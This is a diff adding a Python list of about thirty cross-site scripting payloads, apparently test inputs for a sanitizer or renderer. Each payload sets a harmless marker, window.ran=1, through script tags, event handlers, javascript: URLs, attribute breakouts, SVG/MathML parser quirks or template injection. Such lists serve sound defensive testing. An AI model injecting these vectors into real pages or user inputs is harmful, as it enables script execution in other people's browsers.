@@ -1,0 +1,40 @@
+"""Markup that runs in a page which takes text for markup. Each sets `window.ran`, if it runs."""
+
+RUN = "window.ran=1"
+# Kinds: elements that run, handlers, addresses, ways out of attributes, comments and scripts, SVG
+# and MathML, parsers' quirks, encodings.
+PAYLOADS = (
+    f"<script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f'<img src=x onerror="{RUN}" alt=\'',
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<body onload={RUN}>",
+    f"<video src=x onerror={RUN}></video>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}></audio>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<select autofocus onfocus={RUN}></select>",
+    f"<textarea autofocus onfocus={RUN}></textarea>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src='javascript:parent.{RUN}'></iframe>",
+    f"<object data='javascript:{RUN}'></object>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={RUN}>",
+    f'"><script>{RUN}</script>',
+    f"'><img src=x onerror={RUN}>",
+    f"--><script>{RUN}</script><!--",
+    f"</script><script>{RUN}</script>",
+    f"</textarea></title></style><svg/onload={RUN}>",
+    f"<math><mtext><table><mglyph><style><!--</style><img src onerror={RUN}>",
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    f"<a href=javascript:{RUN} id=click>x</a>",
+    f"javascript:{RUN}",
+    f"java\tscript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    f"&lt;img src=x onerror={RUN}&gt;",
+    f"{{{{constructor.constructor('{RUN}')()}}}}",
+    f"\u202e<img src=x onerror={RUN}>",
+)
